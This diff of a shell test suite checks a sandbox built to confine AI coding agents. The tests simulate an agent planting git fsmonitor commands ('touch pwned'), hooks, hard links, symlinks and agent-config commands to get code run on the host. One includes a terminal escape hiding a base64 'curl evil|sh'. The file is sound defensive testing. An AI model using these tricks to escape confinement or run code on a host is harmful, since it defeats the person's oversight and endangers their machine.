@@ -261,7 +261,8 @@ host_secret() {
   touch -d @0.424242424 "$WS/.zshrc"
   run sb -- true
   [ "$status" -eq 0 ]
-  [ -f "$WS/.envrc" ] && [ -d "$WS/.idea" ]
+  [ -f "$WS/.envrc" ]
+  [ -d "$WS/.idea" ]
   [ ! -e "$WS/.zshrc" ]
 }
 
@@ -447,9 +448,11 @@ t("mknod-suid", lambda: os.mknod("h", stat.S_IFREG | 0o6755))
   echo "$output" | grep -qx inner-git-works
   ! grep -q fsmonitor "$WS/.git/modules/lib/config"
   ! grep -q evil "$WS/.git/modules/a/b/config" "$WS/sub/inner/.git/config"
-  [ ! -e "$WS/.git/modules/lib/hooks/post-checkout" ] && [ ! -e "$WS/sub/inner/.git/hooks/post-checkout" ]
+  [ ! -e "$WS/.git/modules/lib/hooks/post-checkout" ]
+  [ ! -e "$WS/sub/inner/.git/hooks/post-checkout" ]
   # the hooks folder made for the submodule was a placeholder: gone again
-  [ ! -e "$WS/.git/modules/lib/hooks" ] && [ ! -e "$WS/sub/inner/.git/config.worktree" ]
+  [ ! -e "$WS/.git/modules/lib/hooks" ]
+  [ ! -e "$WS/sub/inner/.git/config.worktree" ]
   grep -qx "../.." "$WS/.git/worktrees/w1/commondir"
 }
 
@@ -496,4 +499,326 @@ t("mknod-suid", lambda: os.mknod("h", stat.S_IFREG | 0o6755))
   run sb --bundle "$T/b3" -- true
   [ "$status" -eq 0 ]
   jq -e --arg p "$WS/.envrc" '.mounts[] | select(.destination == $p) | .options | index("ro")' "$T/b3/config.json"
+}
+
+@test "paths: .git/commondir, which moves where git reads config and hooks, cannot be written in any repository" {
+  need_cmd git
+  git -C "$WS" init -q
+  git init -q "$WS/sub"
+  chown -R "$AGENT_UID:$AGENT_UID" "$WS"
+  # what the agent would point git at: a config running a command of its own
+  run sb -- sh -c '
+    mkdir -p evil/objects evil/refs/heads && echo "ref: refs/heads/main" >evil/HEAD
+    printf "[core]\n\tfsmonitor = \"touch pwned; false\"\n" >evil/config
+    [ "$(cat .git/commondir)" = . ] && echo placeholder-names-itself
+    echo ../evil >.git/commondir || echo commondir-refused
+    echo ../../evil >sub/.git/commondir || echo sub-commondir-refused
+    git -c user.email=a@b.test -c user.name=a commit -q --allow-empty -m one && echo git-works'
+  echo "$output"
+  [ "$status" -eq 0 ]
+  for w in placeholder-names-itself commondir-refused sub-commondir-refused git-works; do
+    echo "$output" | grep -qx "$w"
+  done
+  [ ! -e "$WS/.git/commondir" ]
+  [ ! -e "$WS/sub/.git/commondir" ]
+  # the person's own git in that folder reads the repository's own config
+  (cd "$WS" && git -c safe.directory='*' status >/dev/null 2>&1 || true)
+  [ ! -e "$WS/pwned" ]
+}
+
+@test "paths: a protected file with a second name (a hard link an earlier run made) is refused, never written through it" {
+  need_cmd git
+  # run 1 makes the repository, so nothing of it is protected yet, and links its config and a hook
+  run sb -- sh -c 'git init -q && ln .git/config cfg && printf "#!/bin/sh\n" >.git/hooks/pre-commit &&
+    ln .git/hooks/pre-commit hook && echo linked'
+  [ "$status" -eq 0 ]
+  echo "$output" | grep -qx linked
+  # run 2 would write the config and the hook the host's git runs through them
+  run sb -- sh -c 'printf "[core]\n\tfsmonitor = touch pwned\n" >>cfg; echo "touch pwned" >>hook; echo ran'
+  [ "$status" -eq 125 ]
+  ! echo "$output" | grep -qx ran
+  echo "$output" | grep -q "$WS/.git/config: a file the host runs or reads with 2 names (hard links)"
+  ! grep -q fsmonitor "$WS/.git/config"
+  rm "$WS/cfg"
+  run sb -- sh -c 'echo "touch pwned" >>hook; echo ran'
+  [ "$status" -eq 125 ]
+  echo "$output" | grep -q "$WS/.git/hooks/pre-commit: a file the host runs or reads with 2 names (hard links)"
+  ! grep -q pwned "$WS/.git/hooks/pre-commit"
+  rm "$WS/hook"
+  run sb -- true
+  [ "$status" -eq 0 ]
+}
+
+@test "paths: a FIFO an earlier run left at .git/info/exclude does not hold the next start" {
+  need_cmd git
+  git -C "$WS" init -q
+  chown -R "$AGENT_UID:$AGENT_UID" "$WS"
+  run sb -- sh -c 'mv .git/info .git/info.old && mkdir .git/info && mkfifo .git/info/exclude && echo planted'
+  [ "$status" -eq 0 ]
+  echo "$output" | grep -qx planted
+  run timeout -s KILL 20 env -u SUDO_UID -u SUDO_GID HOME="$FHOME" XDG_CONFIG_HOME="$T/config" \
+    "$AGENTRUN" --root "$ROOT" sandbox --workspace "$WS" -- echo ran
+  [ "$status" -eq 125 ]
+  echo "$output" | grep -q "$WS/.git/info/exclude: not a regular file"
+  rm "$WS/.git/info/exclude"
+  run sb -- echo ran
+  [ "$status" -eq 0 ]
+  echo "$output" | grep -qx ran
+}
+
+@test "paths: a nested repository whose .git is a symlink (git follows it) is refused, not left writable" {
+  need_cmd git
+  mkdir -p "$WS/sub" "$WS/g"
+  git init -q --bare "$WS/g/repo"
+  ln -s ../g/repo "$WS/sub/.git"
+  chown -R "$AGENT_UID:$AGENT_UID" "$WS"
+  run sb -- sh -c 'printf "[core]\n\tfsmonitor = touch pwned\n" >>sub/.git/config; echo ran'
+  [ "$status" -eq 125 ]
+  ! echo "$output" | grep -qx ran
+  echo "$output" | grep -q "$WS/sub/.git: a symlink in a writable folder"
+  ! grep -q fsmonitor "$WS/g/repo/config"
+}
+
+@test "paths: the hooks folder and the included files a git config names in the workspace are read-only too" {
+  need_cmd git
+  git -C "$WS" init -q
+  git config -f "$WS/.git/config" core.hooksPath .githooks
+  git config -f "$WS/.git/config" include.path ../conf/extra.inc
+  mkdir "$WS/.githooks"
+  printf '#!/bin/sh\nexit 0\n' >"$WS/.githooks/pre-commit"
+  git init -q "$WS/sub"
+  git config -f "$WS/sub/.git/config" core.hooksPath "hooks dir"
+  chown -R "$AGENT_UID:$AGENT_UID" "$WS"
+  run sb -- sh -c '
+    echo "touch pwned" >>.githooks/pre-commit || echo hooks-refused
+    echo x >.githooks/post-checkout || echo newhook-refused
+    printf "[core]\n\tfsmonitor = touch pwned\n" >conf/extra.inc || echo include-refused
+    mv conf conf2 || echo conf-pinned
+    mv .githooks h2 || echo hooks-pinned
+    mkdir -p "sub/hooks dir/x" || echo subhooks-refused
+    git -c user.email=a@b.test -c user.name=a commit -q --allow-empty -m one && echo git-works'
+  echo "$output"
+  [ "$status" -eq 0 ]
+  for w in hooks-refused newhook-refused include-refused conf-pinned hooks-pinned subhooks-refused git-works; do
+    echo "$output" | grep -qx "$w"
+  done
+  ! grep -q pwned "$WS/.githooks/pre-commit"
+  [ ! -e "$WS/.githooks/post-checkout" ]
+  # what was missing was a placeholder: gone again
+  [ ! -e "$WS/conf" ]
+  [ ! -e "$WS/sub/hooks dir" ]
+  # a name that leaves the workspace through "..": not the sandbox's to hold
+  git config -f "$WS/.git/config" core.hooksPath ../outside-hooks
+  run sb -- true
+  [ "$status" -eq 0 ]
+}
+
+@test "paths: the other agents' project settings, Claude Code skills and an existing mise.toml are read-only; none is left behind" {
+  touch "$WS/mise.toml"
+  echo '{ "folders": [{ "path": "." }] }' >"$WS/proj.code-workspace"
+  chown "$AGENT_UID:$AGENT_UID" "$WS/mise.toml" "$WS/proj.code-workspace"
+  run sb -- sh -c '
+    echo "{\"mcp\":{\"x\":{\"type\":\"local\",\"command\":[\"touch\",\"pwned\"]}}}" >opencode.json || echo opencode-refused
+    echo "{}" >opencode.jsonc || echo opencodec-refused
+    mkdir -p .opencode/plugin || echo opencode-dir-refused
+    mkdir -p .gemini/commands || echo gemini-refused
+    mkdir -p .codex/x || echo codex-refused
+    mkdir -p .claude/skills/x || echo skills-refused
+    mkdir -p .helix/x || echo helix-refused
+    mkdir -p .zed/x || echo zed-refused
+    mkdir -p .cursor/x || echo cursor-refused
+    echo "[hooks]" >>mise.toml || echo mise-refused
+    echo "{}" >proj.code-workspace || echo workspace-file-refused
+    [ ! -e .mise.toml ] && echo absent-mise-not-made'
+  echo "$output"
+  [ "$status" -eq 0 ]
+  for w in opencode opencodec opencode-dir gemini codex skills helix zed cursor mise workspace-file; do
+    echo "$output" | grep -qx "$w-refused"
+  done
+  echo "$output" | grep -qx absent-mise-not-made
+  [ ! -s "$WS/mise.toml" ]
+  grep -q folders "$WS/proj.code-workspace"
+  [ "$(ls -A "$WS" | tr '\n' ' ')" = "mise.toml proj.code-workspace " ]
+}
+
+@test "paths: folders or fake submodules a run makes to use up the walk's budgets leave the repositories it found protected" {
+  need_cmd git
+  git -C "$WS" init -q
+  mkdir -p "$WS/.git/modules/lib" "$WS/zzz"
+  echo "ref: refs/heads/main" >"$WS/.git/modules/lib/HEAD"
+  printf '[core]\n\tbare = false\n' >"$WS/.git/modules/lib/config"
+  git init -q "$WS/zzz/repo"
+  chown -R "$AGENT_UID:$AGENT_UID" "$WS"
+  # run 1 finds both, and makes 600 folders and 80 submodules' git folders
+  run sb -- sh -c 'echo x >>zzz/repo/.git/config || echo nested-refused
+    i=0; while [ $i -lt 600 ]; do mkdir d$i; i=$((i+1)); done
+    i=0; while [ $i -lt 80 ]; do mkdir .git/modules/f$i && echo "ref: refs/heads/main" >.git/modules/f$i/HEAD; i=$((i+1)); done
+    echo made'
+  [ "$status" -eq 0 ]
+  echo "$output" | grep -qx nested-refused
+  echo "$output" | grep -qx made
+  # run 2 still holds what run 1 found
+  run sb -- sh -c 'printf "[core]\n\tfsmonitor = touch pwned\n" >>zzz/repo/.git/config || echo nested-refused
+    printf "[core]\n\tfsmonitor = touch pwned\n" >>.git/modules/lib/config || echo module-refused'
+  echo "$output"
+  [ "$status" -eq 0 ]
+  echo "$output" | grep -qx nested-refused
+  echo "$output" | grep -qx module-refused
+  ! grep -q fsmonitor "$WS/zzz/repo/.git/config" "$WS/.git/modules/lib/config"
+  # what it remembers is in the trust store, out of the sandbox's reach
+  grep -rqx "zzz/repo/.git" "$T/config/agentrun/trust"
+}
+
+@test "paths: a hooks folder set in the person's own git config (a symlink of a dotfile manager, through an include) is held in every repository" {
+  need_cmd git
+  git -C "$WS" init -q
+  mkdir -p "$T/dotfiles"
+  printf '[include]\n\tpath = %s/dotfiles/hooks.inc\n' "$T" >"$T/dotfiles/gitconfig"
+  printf '[core]\n\thooksPath = .hk\n' >"$T/dotfiles/hooks.inc"
+  ln -s "$T/dotfiles/gitconfig" "$FHOME/.gitconfig"
+  chown -R "$AGENT_UID:$AGENT_UID" "$WS"
+  run sb -- sh -c 'mkdir -p .hk/x || echo hooks-refused; touch .hk/pre-commit || echo hook-refused'
+  echo "$output"
+  [ "$status" -eq 0 ]
+  echo "$output" | grep -qx hooks-refused
+  echo "$output" | grep -qx hook-refused
+  [ ! -e "$WS/.hk" ]
+}
+
+@test "paths: a workspace inside a repository gets no .git of its own, which would take the repository's place there" {
+  need_cmd git
+  git init -q "$T"
+  run sb -- sh -c 'git init -q 2>/dev/null || echo init-refused
+    mkdir -p .git/hooks || echo git-refused
+    printf "[core]\n\tfsmonitor = touch pwned\n" >.git/config || echo config-refused'
+  echo "$output"
+  [ "$status" -eq 0 ]
+  for w in init git config; do echo "$output" | grep -qx "$w-refused"; done
+  [ ! -e "$WS/.git" ]
+  ! echo "$output" | grep -q "the run created"
+  # the person's git there is the repository's above
+  [ "$(git -c safe.directory='*' -C "$WS" rev-parse --show-toplevel)" = "$(cd "$T" && pwd -P)" ]
+}
+
+@test "paths: a repository the run makes below the workspace is told after the run, one that was there is not" {
+  need_cmd git
+  git init -q "$WS/old"
+  chown -R "$AGENT_UID:$AGENT_UID" "$WS"
+  run sb -- sh -c 'git init -q src/lib && echo made'
+  echo "$output"
+  [ "$status" -eq 0 ]
+  echo "$output" | grep -qx made
+  echo "$output" | grep -q "the run created $WS/src/lib/.git"
+  ! echo "$output" | grep -q "the run created $WS/old"
+  # the next run found it there: nothing to tell
+  run sb -- true
+  [ "$status" -eq 0 ]
+  ! echo "$output" | grep -q "the run created"
+}
+
+@test "paths: agentrun trust shows a carriage return or a bidi control the agent hid a change behind, never sends it to the terminal" {
+  printf '{\n  "env": ["A=1"]\n}\n' >"$WS/.agentrun.json"
+  run sb --profile "$WS/.agentrun.json" -- true
+  [ "$status" -eq 0 ]
+  # on a terminal the new line reads as the old one: the allow is drawn over
+  printf '{\n  "allow": ["evil.example"],\r  "env": ["A=1"]                              \n}\n' >"$WS/.agentrun.json"
+  run env XDG_CONFIG_HOME="$T/config" "$AGENTRUN" trust --yes "$WS/.agentrun.json"
+  [ "$status" -eq 0 ]
+  [[ "$output" != *$'\r'* ]]
+  echo "$output" | grep -qF '+  "allow": ["evil.example"],<U+000D>  "env": ["A=1"]'
+  # the same for a file with no trusted copy yet, and a right-to-left override
+  printf '{ "env": ["B=\xe2\x80\xae1"] }\n' >"$T/new.json"
+  run env XDG_CONFIG_HOME="$T/config" "$AGENTRUN" trust --yes "$T/new.json"
+  [ "$status" -eq 0 ]
+  echo "$output" | grep -qF '{ "env": ["B=<U+202E>1"] }'
+}
+
+@test "paths: a name the command chose reaches agentrun's messages without its control characters (no escape sequence for the terminal)" {
+  need_cmd git
+  run sb -- sh -c 'git init -q "$(printf "x\033]52;c;Y3VybCBldmlsfHNo\007\r")/r" && echo made'
+  [ "$status" -eq 0 ]
+  echo "$output" | grep -qx made
+  [[ "$output" != *$'\033'* ]]
+  [[ "$output" != *$'\r'* ]]
+  [[ "$output" != *$'\a'* ]]
+  echo "$output" | grep -qF "the run created $WS/x?]52;c;Y3VybCBldmlsfHNo??/r/.git"
+}
+
+@test "paths: 64 nested repositories: the names held do not use up the open files of the container's init" {
+  need_cmd git
+  local i
+  for i in $(seq 64); do
+    mkdir -p "$WS/r$i/.git/hooks"
+    echo "ref: refs/heads/main" >"$WS/r$i/.git/HEAD"
+    printf '[core]\n\tbare = false\n' >"$WS/r$i/.git/config"
+  done
+  chown -R "$AGENT_UID:$AGENT_UID" "$WS"
+  run sb -- sh -c 'echo x >>r64/.git/config || echo refused; echo ran'
+  echo "$output"
+  [ "$status" -eq 0 ]
+  echo "$output" | grep -qx ran
+  echo "$output" | grep -qx refused
+}
+
+@test "paths: the git folder a .git file names inside the workspace (--separate-git-dir) is protected like any other" {
+  need_cmd git
+  git init -q --separate-git-dir="$WS/.realgit" "$WS"
+  mkdir -p "$WS/gitdirs" "$WS/proj"
+  git init -q --separate-git-dir="$WS/gitdirs/proj" "$WS/proj"
+  # a relative one, as git writes for a submodule
+  mkdir -p "$WS/lib" "$WS/store"
+  git init -q --bare "$WS/store/lib.git"
+  echo "gitdir: ../store/lib.git" >"$WS/lib/.git"
+  chown -R "$AGENT_UID:$AGENT_UID" "$WS"
+  run sb -- sh -c '
+    printf "[core]\n\tfsmonitor = touch pwned\n" >>.realgit/config || echo top-refused
+    touch .realgit/hooks/post-checkout || echo top-hooks-refused
+    printf "[core]\n\tfsmonitor = touch pwned\n" >>gitdirs/proj/config || echo nested-refused
+    printf "[core]\n\tfsmonitor = touch pwned\n" >>store/lib.git/config || echo relative-refused
+    mv gitdirs gitdirs2 || echo pinned'
+  echo "$output"
+  [ "$status" -eq 0 ]
+  for w in top-refused top-hooks-refused nested-refused relative-refused pinned; do echo "$output" | grep -qx "$w"; done
+  ! grep -q fsmonitor "$WS/.realgit/config"
+  ! grep -q fsmonitor "$WS/gitdirs/proj/config"
+  ! grep -q fsmonitor "$WS/store/lib.git/config"
+}
+
+@test "paths: a --mask or --ro file in the workspace with a second name (a hard link an earlier run made) is refused" {
+  echo TOKEN=1 >"$WS/secret.env"
+  echo '{}' >"$WS/conf.json"
+  chown -R "$AGENT_UID:$AGENT_UID" "$WS"
+  # run 1, before either was held: a second name for each
+  run sb -- sh -c 'ln secret.env .s && ln conf.json .c && echo linked'
+  echo "$output" | grep -qx linked
+  # the person writes a new secret in place; run 2 would read it, or write the config, through them
+  echo TOKEN=2 >"$WS/secret.env"
+  run sb --mask "$WS/secret.env" -- cat .s
+  [ "$status" -eq 125 ]
+  ! echo "$output" | grep -q TOKEN
+  echo "$output" | grep -q -- "--mask $WS/secret.env: a file with 2 names (hard links)"
+  run sb --ro "$WS/conf.json" -- sh -c 'echo "{\"x\":1}" >.c; echo ran'
+  [ "$status" -eq 125 ]
+  ! echo "$output" | grep -qx ran
+  echo "$output" | grep -q -- "--ro $WS/conf.json: a file with 2 names (hard links)"
+  [ "$(cat "$WS/conf.json")" = '{}' ]
+  # without the second names both hold
+  rm "$WS/.s" "$WS/.c"
+  run sb --mask "$WS/secret.env" --ro "$WS/conf.json" -- sh -c 'cat secret.env; echo x >conf.json || echo ro'
+  [ "$status" -eq 0 ]
+  ! echo "$output" | grep -q TOKEN
+  echo "$output" | grep -qx ro
+}
+
+@test "paths: a masked folder in the workspace holding a file with a second name elsewhere is refused" {
+  mkdir "$WS/secrets"
+  echo TOKEN=1 >"$WS/secrets/token"
+  chown -R "$AGENT_UID:$AGENT_UID" "$WS"
+  run sb -- sh -c 'ln secrets/token .t && echo linked'
+  echo "$output" | grep -qx linked
+  echo TOKEN=2 >"$WS/secrets/token"
+  run sb --mask "$WS/secrets" -- cat .t
+  [ "$status" -eq 125 ]
+  ! echo "$output" | grep -q TOKEN
+  echo "$output" | grep -q -- "--mask $WS/secrets: .*$WS/secrets/token: .* 2 names (hard links)"
 }
